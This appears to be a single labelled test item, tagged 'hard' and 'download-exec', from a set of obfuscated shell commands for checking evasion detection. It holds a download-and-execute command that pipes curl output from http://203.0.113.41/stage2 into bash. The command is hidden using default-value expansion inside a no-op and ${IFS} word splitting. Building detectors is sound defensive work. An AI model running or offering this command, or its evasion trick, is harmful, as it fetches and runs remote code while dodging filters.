# evasion: the commands are assigned as a side effect of ${v:=...} inside a ':' no-op, and run unquoted so ${IFS} splits them
# grade: hard; does: download-exec
: "${fetch:=curl${IFS}-fsSL${IFS}http://203.0.113.41/stage2}" "${run:=$(printf %s b a s h)}"
$fetch | $run
